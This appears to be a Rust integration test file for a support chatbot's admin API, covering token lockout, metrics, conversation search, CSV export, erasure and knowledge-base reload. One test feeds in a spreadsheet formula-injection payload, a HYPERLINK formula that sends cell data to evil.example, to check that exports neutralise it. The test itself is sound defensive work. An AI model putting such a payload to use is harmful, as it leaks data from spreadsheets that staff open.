//! The admin listener over real HTTP: metrics, the token, the API's reads,
//! the unanswered inbox, exports, and the knowledge base's live reload.

use std::net::SocketAddr;
use std::sync::Arc;
use std::time::{Duration, Instant};

use axum::http::Request;
use http_body_util::Full;
use serde_json::{Value, json};
use support_chat::domain::knowledge::{KbSource, Knowledge};

use crate::helpers::*;

async fn say(addr: SocketAddr, message: &str) -> Value {
    let reply = chat(addr, &json!({ "message": message })).await;
    assert_eq!(reply.status, 200);
    reply.json()
}

fn plain_get(path: &str, token: Option<&str>) -> Request<Full<axum::body::Bytes>> {
    let mut request = Request::get(path).header("host", "localhost");
    if let Some(token) = token {
        request = request.header("authorization", format!("Bearer {token}"));
    }
    request.body(Full::default()).unwrap()
}

#[tokio::test]
async fn without_a_token_configured_the_admin_api_does_not_exist_but_metrics_do() {
    let (_, admin) = spawn_both(setup().await).await;
    envelope(
        &admin_get(admin, "/admin/api/summary").await,
        404,
        "not_found",
    );
    let metrics = send(admin, plain_get("/metrics", None)).await;
    assert_eq!(metrics.status, 200);
    assert!(
        metrics
            .header("content-type")
            .unwrap()
            .starts_with("text/plain")
    );
}

#[tokio::test]
async fn a_missing_or_wrong_token_is_refused_and_ten_failures_a_minute_lock_the_client_out() {
    let (_, admin, _) = with_admin(&[]).await;
    let missing = send(admin, plain_get("/admin/api/summary", None)).await;
    envelope(&missing, 401, "unauthorized");
    assert_eq!(missing.header("www-authenticate"), Some("Bearer"));
    for _ in 1..10 {
        let wrong = send(admin, plain_get("/admin/api/summary", Some("guess"))).await;
        envelope(&wrong, 401, "unauthorized");
    }
    let locked = send(admin, plain_get("/admin/api/summary", Some("guess"))).await;
    envelope(&locked, 429, "rate_limited");
    assert!(locked.header("retry-after").is_some());
    // Now even the right token waits: guessing is not worth it.
    envelope(
        &admin_get(admin, "/admin/api/summary").await,
        429,
        "rate_limited",
    );
}

#[tokio::test]
async fn nothing_of_the_admin_side_is_served_on_the_public_listener() {
    let (public, admin, _) = with_admin(&["--chat-rate-limit", "2/60s"]).await;
    let refused_before = metric(admin, r#"rate_limited_total{policy="chat"}"#).await;
    say(public, "hello").await;
    for path in [
        "/metrics",
        "/admin/api/summary",
        "/admin/api/openapi.json",
        "/admin/api/kb",
        "/console",
        "/console/sign-in",
        "/console/console.css",
    ] {
        let reply = send(public, plain_get(path, Some(ADMIN_TOKEN))).await;
        assert_eq!(reply.status, 404, "{path} on the public listener");
    }
    let metrics =
        String::from_utf8(send(admin, plain_get("/metrics", None)).await.body.to_vec()).unwrap();
    for name in [
        "http_requests_total",
        "http_request_duration_seconds",
        "chat_replies_total",
        "engine_duration_seconds",
        "connections_open",
        "sessions_live",
    ] {
        assert!(metrics.contains(name), "{name} missing from {metrics}");
    }
    assert!(
        metrics.contains(r#"route="/public/v1/support/chat""#),
        "{metrics}"
    );
    // The third chat in the window is refused, and counted.
    say(public, "hello again").await;
    assert_eq!(chat(public, &hello()).await.status, 429);
    let refused = metric(admin, r#"rate_limited_total{policy="chat"}"#).await;
    assert!(refused > refused_before, "{refused_before} -> {refused}");
    let doc = send(admin, plain_get("/admin/api/openapi.json", None))
        .await
        .json();
    assert_eq!(doc["openapi"], "3.1.0");
    assert!(doc["paths"]["/admin/api/unanswered"].is_object());
}

#[tokio::test]
async fn the_admin_openapi_document_names_every_api_route_with_the_methods_it_takes() {
    let (_, admin, _setup) = with_admin(&[]).await;
    let doc = admin_get(admin, "/admin/api/openapi.json").await.json();
    let paths = doc["paths"].as_object().unwrap();
    for (path, operations) in paths {
        // Each documented route answers a method it does not take with 405
        // and the methods it does: exactly the documented ones.
        let concrete = path.replace(['{', '}'], "");
        let reply = send(admin, admin_request("TRACE", &concrete, None)).await;
        let body = envelope(&reply, 405, "method_not_allowed");
        let mut allowed: Vec<String> = reply
            .header("allow")
            .unwrap_or_else(|| panic!("{path}: {body}"))
            .split(", ")
            .filter(|m| *m != "HEAD")
            .map(str::to_lowercase)
            .collect();
        allowed.sort();
        let mut documented: Vec<String> = operations.as_object().unwrap().keys().cloned().collect();
        documented.sort();
        assert_eq!(allowed, documented, "{path}");
    }
    // And every route the admin router has under /admin/api/ is documented.
    let source = include_str!("../../src/http/admin/mod.rs");
    let routed: Vec<&str> = source
        .split("\"/admin/api/")
        .skip(1)
        .filter_map(|rest| rest.split_once('"'))
        .map(|(path, _)| path)
        .filter(|path| *path != "openapi.json")
        .collect();
    assert!(routed.len() >= 14, "{routed:?}");
    for route in routed {
        let route = format!("/admin/api/{route}");
        assert!(
            paths.contains_key(&route),
            "{route} is routed but not documented"
        );
    }
}

#[tokio::test]
async fn the_summary_counts_every_day_of_the_range_with_outcomes_and_votes() {
    let (public, admin, setup) = with_admin(&[]).await;
    say(public, "How long does an application take?").await;
    say(public, "what's the weather in Leeds").await;
    say(public, "can I speak to a person").await;
    setup.state.chat.recorder.flush().await;
    let summary = admin_get(admin, "/admin/api/summary?days=7").await;
    assert_eq!(summary.status, 200);
    let summary = summary.json();
    assert_eq!(
        summary["days"].as_array().unwrap().len(),
        7,
        "every day, even empty ones"
    );
    assert_eq!(summed(&summary, "conversations"), 3);
    assert_eq!(summed(&summary, "messages"), 3);
    assert_eq!(summed(&summary, "answered"), 2);
    assert_eq!(summed(&summary, "out_of_scope"), 1);
    for bad in ["days=0", "days=400", "days=x"] {
        let reply = admin_get(admin, &format!("/admin/api/summary?{bad}")).await;
        let body = envelope(&reply, 400, "invalid_query");
        assert_eq!(body["error"]["param"], "days");
    }
}

#[tokio::test]
async fn the_summary_and_the_conversation_list_count_every_outcome_by_day_and_page_through_a_date_range()
 {
    use support_chat::domain::clock::now_millis;
    use support_chat::domain::records::{RecordedOutcome, day_of};
    const DAY: i64 = 86_400_000;
    let (public, admin, setup) = with_admin(&[]).await;
    let now = now_millis();
    say(public, "How long does an application take?").await;
    let clarified = "overdraft or loan, which one";
    record_turn(&setup, clarified, RecordedOutcome::Clarified, 0.4, now).await;
    let handed = "it is complicated";
    record_turn(&setup, handed, RecordedOutcome::HandedOff, 0.1, now).await;
    let old = now - 10 * DAY;
    record_turn(&setup, "an old one", RecordedOutcome::OutOfScope, 0.0, old).await;
    setup.state.chat.recorder.flush().await;

    let days = admin_get(admin, "/admin/api/summary?days=14").await.json()["days"].clone();
    let days = days.as_array().unwrap();
    // Found by date, not by place: midnight (UTC) may pass before the summary.
    let on = |at: i64| days.iter().find(|d| d["day"] == day_of(at)).unwrap();
    let today = on(now);
    for (field, count) in [
        ("conversations", 3),
        ("messages", 3),
        ("answered", 1),
        ("clarified", 1),
        ("handed_off", 1),
        ("out_of_scope", 0),
    ] {
        assert_eq!(today[field], count, "{field}: {today}");
    }
    let then = on(old);
    assert_eq!(
        (then["conversations"].clone(), then["out_of_scope"].clone()),
        (json!(1), json!(1))
    );

    let listed = move |query: String| async move {
        let reply = admin_get(admin, &format!("/admin/api/conversations?{query}")).await;
        assert_eq!(reply.status, 200, "{query}");
        reply.json()["conversations"].as_array().unwrap().clone()
    };
    let (today, then) = (day_of(now), day_of(old));
    assert_eq!(listed(format!("from={today}")).await.len(), 3);
    let before = listed(format!("to={then}")).await;
    assert_eq!(before.len(), 1, "to is the whole of that day: {before:?}");
    assert_eq!(before[0]["out_of_scope"], 1);
    assert_eq!(listed(format!("from={then}&to={then}")).await.len(), 1);
    assert_eq!(listed(format!("from={today}&to={then}")).await.len(), 0);
    for (outcome, field) in [("clarified", "clarified"), ("handoff", "handed_off")] {
        let one = listed(format!("outcome={outcome}")).await;
        assert_eq!(one.len(), 1, "{outcome}: {one:?}");
        assert_eq!(one[0][field], 1);
    }
    // Page by page, each of today's three once, most recent first.
    let mut paged = Vec::new();
    for page in 0..3 {
        let one = listed(format!("from={today}&per_page=1&page={page}")).await;
        assert_eq!(one.len(), 1, "page {page}");
        paged.push(one[0].clone());
    }
    let all = listed(format!("from={today}")).await;
    assert_eq!(paged, all);
    assert!(
        listed(format!("from={today}&per_page=1&page=3"))
            .await
            .is_empty()
    );
}

#[tokio::test]
async fn the_inbox_says_why_each_question_is_there_a_vote_down_or_a_low_confidence_answer() {
    use support_chat::domain::clock::now_millis;
    use support_chat::domain::records::RecordedOutcome;
    let (public, admin, setup) = with_admin(&[]).await;
    let answered = say(public, "Do I need a personal guarantee?").await;
    let vote = json!({
        "session": answered["session"], "reply_id": answered["reply_id"], "helpful": false
    });
    let voted = send(
        public,
        Request::post(support_chat_api::FEEDBACK_PATH)
            .header("host", "localhost")
            .header("content-type", "application/json")
            .body(Full::from(vote.to_string()))
            .unwrap(),
    )
    .await;
    assert_eq!(voted.status, 204);
    let unsure = "what are the rules on invoice timings";
    record_turn(&setup, unsure, RecordedOutcome::Answered, 0.2, now_millis()).await;
    let sure = "what are the opening hours";
    record_turn(&setup, sure, RecordedOutcome::Answered, 0.9, now_millis()).await;
    setup.state.chat.recorder.flush().await;

    let items = admin_get(admin, "/admin/api/unanswered").await.json()["items"].clone();
    let reasons = |text: &str| {
        let item = items.as_array().unwrap().iter().find(|i| i["text"] == text);
        item.map(|i| i["reasons"].clone())
    };
    let voted_down =
        reasons("Do I need a personal guarantee?").unwrap_or_else(|| panic!("{items}"));
    assert!(
        voted_down
            .as_array()
            .unwrap()
            .contains(&json!("not_helpful")),
        "{voted_down}"
    );
    assert_eq!(reasons(unsure), Some(json!(["low_confidence"])), "{items}");
    assert_eq!(
        reasons(sure),
        None,
        "a confident answer nobody voted down: {items}"
    );
}

#[tokio::test]
async fn unanswered_questions_come_grouped_most_frequent_first_and_a_dismissed_group_stays_away() {
    let (public, admin, setup) = with_admin(&[]).await;
    for question in [
        "what's the weather in Leeds?",
        "What is the weather like in Leeds today?",
        "weather in leeds",
        "tell me a joke",
    ] {
        say(public, question).await;
    }
    say(public, "How long does an application take?").await;
    setup.state.chat.recorder.flush().await;
    let inbox = admin_get(admin, "/admin/api/unanswered").await;
    assert_eq!(inbox.status, 200);
    let items = inbox.json()["items"].as_array().unwrap().clone();
    let weather = items
        .iter()
        .find(|i| {
            i["text"]
                .as_str()
                .unwrap()
                .to_lowercase()
                .contains("weather")
        })
        .unwrap_or_else(|| panic!("{items:?}"));
    assert_eq!(
        weather["count"], 3,
        "near-duplicates are one item: {items:?}"
    );
    assert_eq!(items[0]["id"], weather["id"], "the most frequent first");
    assert_eq!(weather["examples"].as_array().unwrap().len(), 3);
    assert!(weather["last_seen"].as_str().unwrap().ends_with('Z'));
    assert!(!weather["reasons"].as_array().unwrap().is_empty());
    assert!(
        !items
            .iter()
            .any(|i| i["text"] == "How long does an application take?"),
        "answered questions are not in the inbox"
    );
    let id = weather["id"].as_str().unwrap();
    let dismissed = send(
        admin,
        admin_request("POST", &format!("/admin/api/unanswered/{id}/dismiss"), None),
    )
    .await;
    assert_eq!(dismissed.status, 204);
    let after = admin_get(admin, "/admin/api/unanswered").await.json();
    assert!(
        !after["items"]
            .as_array()
            .unwrap()
            .iter()
            .any(|i| i["id"] == id),
        "{after}"
    );
    let again = send(
        admin,
        admin_request("POST", &format!("/admin/api/unanswered/{id}/dismiss"), None),
    )
    .await;
    envelope(&again, 404, "not_found");
}

#[tokio::test]
async fn conversations_are_listed_filtered_read_exported_as_csv_and_erased() {
    let (public, admin, setup) = with_admin(&[]).await;
    let handed = say(public, "what's the weather in Leeds").await;
    say(public, "hello").await;
    setup.state.chat.recorder.flush().await;
    let all = admin_get(admin, "/admin/api/conversations").await.json();
    assert_eq!(all["conversations"].as_array().unwrap().len(), 2);
    let oos = admin_get(admin, "/admin/api/conversations?outcome=out_of_scope")
        .await
        .json();
    let list = oos["conversations"].as_array().unwrap();
    assert_eq!(list.len(), 1);
    let id = list[0]["id"].as_str().unwrap().to_owned();
    let by_session = admin_get(
        admin,
        &format!(
            "/admin/api/conversations?session={}",
            handed["session"].as_str().unwrap()
        ),
    )
    .await
    .json();
    assert_eq!(
        by_session["conversations"][0]["id"],
        id.as_str(),
        "subject access by session id"
    );
    // Found among all of them, not only on the page asked for.
    let beyond_the_page = admin_get(
        admin,
        &format!(
            "/admin/api/conversations?per_page=1&session={}",
            handed["session"].as_str().unwrap()
        ),
    )
    .await
    .json();
    assert_eq!(
        beyond_the_page["conversations"][0]["id"],
        id.as_str(),
        "{beyond_the_page}"
    );
    let searched = admin_get(admin, "/admin/api/conversations?q=WEATHER")
        .await
        .json();
    assert_eq!(searched["conversations"].as_array().unwrap().len(), 1);
    for bad in ["outcome=maybe", "from=2026-13-01", "per_page=0"] {
        let reply = admin_get(admin, &format!("/admin/api/conversations?{bad}")).await;
        envelope(&reply, 400, "invalid_query");
    }

    let csv = admin_get(
        admin,
        &format!("/admin/api/export?format=csv&conversation={id}"),
    )
    .await;
    assert_eq!(csv.status, 200);
    assert_eq!(csv.header("content-type"), Some("text/csv; charset=utf-8"));
    let text = String::from_utf8(csv.body.to_vec()).unwrap();
    let mut reader = csv::Reader::from_reader(text.as_bytes());
    let rows: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
    assert_eq!(rows.len(), 1, "{text}");
    assert_eq!(&rows[0][0], id.as_str());
    assert_eq!(&rows[0][4], "out_of_scope");
    envelope(
        &admin_get(admin, "/admin/api/export?format=xml").await,
        400,
        "invalid_query",
    );
    // An id that is not UTF-8 once decoded names nothing: the one envelope.
    for (method, path) in [
        ("GET", "/admin/api/conversations/%FF"),
        ("PATCH", "/admin/api/complaints/%C3%28"),
        ("POST", "/admin/api/unanswered/%FF/dismiss"),
    ] {
        envelope(
            &send(admin, admin_request(method, path, None)).await,
            404,
            "not_found",
        );
    }

    let erased = send(
        admin,
        admin_request("DELETE", &format!("/admin/api/conversations/{id}"), None),
    )
    .await;
    assert_eq!(erased.status, 204);
    envelope(
        &admin_get(admin, &format!("/admin/api/conversations/{id}")).await,
        404,
        "not_found",
    );
    let left = admin_get(admin, "/admin/api/conversations").await.json();
    assert_eq!(left["conversations"].as_array().unwrap().len(), 1);
}

#[tokio::test]
async fn a_conversation_search_takes_percent_and_underscore_literally() {
    let (public, admin, setup) = with_admin(&[]).await;
    for message in [
        "can I borrow 100% of the price",
        "can I borrow 1000 pounds",
        "my reference is AB_12",
        "my reference is AB312",
    ] {
        say(public, message).await;
    }
    setup.state.chat.recorder.flush().await;
    for (q, found) in [("100%", 1), ("100", 2), ("ab_12", 1), ("AB\\", 0)] {
        assert_eq!(found_by_search(admin, q).await, found, "q={q}");
    }
}

#[tokio::test]
async fn a_conversation_search_ignores_case_outside_ascii_too() {
    let (public, admin, setup) = with_admin(&[]).await;
    for message in [
        "ZOË from SOCIÉTÉ GÉNÉRALE here",
        "zoe from societe generale",
    ] {
        say(public, message).await;
    }
    setup.state.chat.recorder.flush().await;
    for (q, found) in [("zoë", 1), ("Société", 1), ("société gén", 1), ("Zo", 2)] {
        assert_eq!(found_by_search(admin, q).await, found, "q={q}");
    }
}

/// How many conversations the admin API lists for the search `q`.
async fn found_by_search(admin: SocketAddr, q: &str) -> usize {
    let q: String = url::form_urlencoded::byte_serialize(q.as_bytes()).collect();
    let listed = admin_get(admin, &format!("/admin/api/conversations?q={q}")).await;
    assert_eq!(listed.status, 200, "{:?}", listed.body);
    listed.json()["conversations"].as_array().unwrap().len()
}

#[tokio::test]
async fn a_message_written_as_a_spreadsheet_formula_is_exported_as_text() {
    let (public, admin, setup) = with_admin(&[]).await;
    let formulas = [
        "=HYPERLINK(\"https://evil.example/?d=\"&A2,\"details\")",
        "+44 what's the weather",
        "-1 recipes for soup",
        "@SUM(1+1) weather",
    ];
    for formula in formulas {
        say(public, formula).await;
    }
    // Split on `;` (a European locale's separator), this would be a formula cell.
    say(public, "weather;=1+1").await;
    say(public, "what's the weather in Leeds").await;
    setup.state.chat.recorder.flush().await;
    let csv = admin_get(admin, "/admin/api/export?format=csv").await;
    assert_eq!(csv.status, 200);
    let text = String::from_utf8(csv.body.to_vec()).unwrap();
    let messages: Vec<String> = csv::Reader::from_reader(text.as_bytes())
        .records()
        .map(|r| r.unwrap()[3].to_owned())
        .collect();
    for formula in formulas {
        assert!(
            messages.contains(&format!("'{formula}")),
            "{formula} in {messages:?}"
        );
    }
    assert!(
        messages.contains(&"what's the weather in Leeds".to_owned()),
        "ordinary text as written: {messages:?}"
    );
    assert!(
        text.contains(r#","weather;=1+1","#),
        "every field quoted: {text}"
    );
    // The JSON lines keep the text exactly as recorded.
    let jsonl = admin_get(admin, "/admin/api/export?format=jsonl").await;
    let lines = String::from_utf8(jsonl.body.to_vec()).unwrap();
    assert!(lines.contains("\"message\":\"=HYPERLINK("), "{lines}");
}

/// `POST /admin/api/kb/{article}/questions` with `text`: teaches it.
async fn teach(admin: SocketAddr, article: &str, text: &str) -> Reply {
    let path = format!("/admin/api/kb/{article}/questions");
    send(
        admin,
        admin_request("POST", &path, Some(json!({ "text": text }))),
    )
    .await
}

/// [`with_knowledge`] on a copy of the sample knowledge base in a folder.
async fn with_kb_folder() -> (SocketAddr, SocketAddr, std::path::PathBuf, Arc<Knowledge>) {
    let dir = sample_kb_copy();
    let (public, admin, knowledge) = with_knowledge(KbSource::Dir(dir.clone())).await;
    (public, admin, dir, knowledge)
}

#[tokio::test]
async fn the_built_in_sample_is_read_only() {
    let (_, admin, _) = with_knowledge(KbSource::Sample).await;
    let body = envelope(
        &teach(admin, "cost", "how dear is it").await,
        409,
        "read_only",
    );
    assert!(
        body["error"]["message"]
            .as_str()
            .unwrap()
            .contains("--kb DIR")
    );
    let kb = admin_get(admin, "/admin/api/kb").await.json();
    assert_eq!(kb["source"], "built-in sample");
    assert!(kb["articles"].as_array().unwrap().len() >= 15);
}

#[tokio::test]
async fn a_reload_keeps_the_duty_of_care_detectors_unless_their_examples_changed() {
    let (_, admin, dir, knowledge) = with_kb_folder().await;
    let first = knowledge.engine();
    let added = teach(admin, "handoff", "is there parking at your office").await;
    assert_eq!(added.status, 201);
    let second = knowledge.engine();
    assert!(!Arc::ptr_eq(&first, &second), "reloaded");
    assert!(
        Arc::ptr_eq(first.care(), second.care()),
        "an article edit keeps the detectors"
    );
    std::fs::create_dir_all(dir.join("care")).unwrap();
    std::fs::write(
        dir.join("care/complaint.csv"),
        "text,label\nthe portal lost my documents twice and nobody cares,complaint\n",
    )
    .unwrap();
    knowledge.reload().await.unwrap();
    let third = knowledge.engine();
    assert!(
        !Arc::ptr_eq(second.care(), third.care()),
        "new care examples train them again"
    );
}

#[tokio::test]
async fn a_question_taught_from_the_out_of_scope_examples_leaves_them_and_is_answered() {
    let (public, admin, dir, _) = with_kb_folder().await;
    let question = "are you part of a bigger group";
    let examples = || std::fs::read_to_string(dir.join("out-of-scope.txt")).unwrap();
    assert!(examples().lines().any(|l| l == question));
    let kb = support_chat_assistant::KnowledgeBase::load_dir(&dir).unwrap();
    let offer = &kb.get("handoff").unwrap().body;
    let before = say(public, question).await;
    assert!(
        !before["reply"].as_str().unwrap().starts_with(&offer[..30]),
        "handed off as out of scope: {before}"
    );
    let added = teach(admin, "handoff", question).await;
    assert_eq!(added.status, 201);
    let left = examples();
    assert!(!left.lines().any(|l| l == question), "{left}");
    assert!(left.lines().any(|l| l == "whos ur ceo"), "{left}");
    let after = say(public, question).await;
    assert!(
        after["reply"].as_str().unwrap().starts_with(&offer[..30]),
        "answered now: {after}"
    );
}

#[tokio::test]
async fn an_added_example_question_is_answered_with_its_article_at_once() {
    let (public, admin, dir, _) = with_kb_folder().await;
    let question = "do you have a branch in Manchester?";
    let kb = support_chat_assistant::KnowledgeBase::load_dir(&dir).unwrap();
    let offer = &kb.get("handoff").unwrap().body;
    let before = say(public, question).await;
    assert!(
        !before["reply"].as_str().unwrap().starts_with(&offer[..30]),
        "{before}"
    );
    let added = teach(admin, "handoff", question).await;
    assert_eq!(
        added.status,
        201,
        "{:?}",
        String::from_utf8_lossy(&added.body)
    );
    let text = std::fs::read_to_string(dir.join("handoff.md")).unwrap();
    assert!(text.contains(&format!("  - \"{question}\"")), "{text}");
    let after = say(public, question).await;
    assert!(
        after["reply"].as_str().unwrap().starts_with(&offer[..30]),
        "answered now: {after}"
    );
    // Refused: twice the same, an unknown article, not a question.
    envelope(&teach(admin, "handoff", question).await, 409, "duplicate");
    envelope(&teach(admin, "nope", "q?").await, 404, "not_found");
    envelope(
        &teach(admin, "handoff", "two\nlines").await,
        400,
        "invalid_request",
    );
    let kb = admin_get(admin, "/admin/api/kb").await.json();
    assert_eq!(kb["loads"], 2, "{kb}");
}

#[tokio::test]
async fn an_edit_to_the_out_of_scope_or_the_care_examples_alone_is_reloaded() {
    let (public, _, dir, knowledge) = with_kb_folder().await;
    let question = "can you insure the vans my business uses for deliveries";
    let mut examples = std::fs::read_to_string(dir.join("out-of-scope.txt")).unwrap();
    examples.push_str(question);
    examples.push('\n');
    std::fs::write(dir.join("out-of-scope.txt"), examples).unwrap();
    let deadline = Instant::now() + Duration::from_secs(20);
    while knowledge.status().loads < 2 {
        assert!(Instant::now() < deadline, "not reloaded");
        tokio::time::sleep(Duration::from_millis(50)).await;
    }
    let reply = say(public, question).await;
    assert_eq!(reply["handoff"], true, "{reply}");

    let detectors = knowledge.engine().care().clone();
    std::fs::create_dir_all(dir.join("care")).unwrap();
    std::fs::write(
        dir.join("care/complaint.csv"),
        "text,label\nthe portal lost my documents twice and nobody cares,complaint\n",
    )
    .unwrap();
    // Trained again from the new examples (the folder's creation may
    // reload first, without them).
    let deadline = Instant::now() + Duration::from_secs(20);
    while Arc::ptr_eq(&detectors, knowledge.engine().care()) {
        assert!(
            Instant::now() < deadline,
            "the care examples were not reloaded"
        );
        tokio::time::sleep(Duration::from_millis(50)).await;
    }
}

#[tokio::test]
async fn a_changed_folder_is_reloaded_and_a_broken_one_keeps_the_old_engine_serving() {
    let (public, admin, dir, knowledge) = with_kb_folder().await;
    // A new article, written by hand: picked up by the watcher.
    std::fs::write(
        dir.join("zz-opening-hours.md"),
        "---\nid: opening-hours\ntitle: When are you open?\nquestions:\n  - when are you open\n  - what are your opening hours\n  - are you open at weekends\n  - what time do you close\n  - when does the office open\n  - are you open on bank holidays\n  - what hours can I call\n  - are you open on sundays\n---\nOur team is in from 9 to 5:30, Monday to Friday.\n",
    )
    .unwrap();
    let deadline = Instant::now() + Duration::from_secs(20);
    while knowledge.status().loads < 2 {
        assert!(Instant::now() < deadline, "not reloaded");
        tokio::time::sleep(Duration::from_millis(50)).await;
    }
    let hours = say(public, "what are your opening hours").await;
    assert!(
        hours["reply"].as_str().unwrap().contains("9 to 5:30"),
        "{hours}"
    );

    // Broken: the old engine keeps answering, and the admin API says why.
    std::fs::write(
        dir.join("zz-broken.md"),
        "---\nid: broken\ntitle: B\n---\nNo questions.\n",
    )
    .unwrap();
    let deadline = Instant::now() + Duration::from_secs(20);
    while knowledge.status().error.is_none() {
        assert!(Instant::now() < deadline, "no error reported");
        tokio::time::sleep(Duration::from_millis(50)).await;
    }
    let still = say(public, "what are your opening hours").await;
    assert!(still["reply"].as_str().unwrap().contains("9 to 5:30"));
    let kb = admin_get(admin, "/admin/api/kb").await.json();
    assert!(
        kb["error"]["file"]
            .as_str()
            .unwrap()
            .ends_with("zz-broken.md"),
        "{kb}"
    );
    assert!(
        kb["error"]["message"]
            .as_str()
            .unwrap()
            .contains("questions"),
        "{kb}"
    );
    let metrics =
        String::from_utf8(send(admin, plain_get("/metrics", None)).await.body.to_vec()).unwrap();
    assert!(metrics.contains("kb_reload_failures_total"), "{metrics}");
}
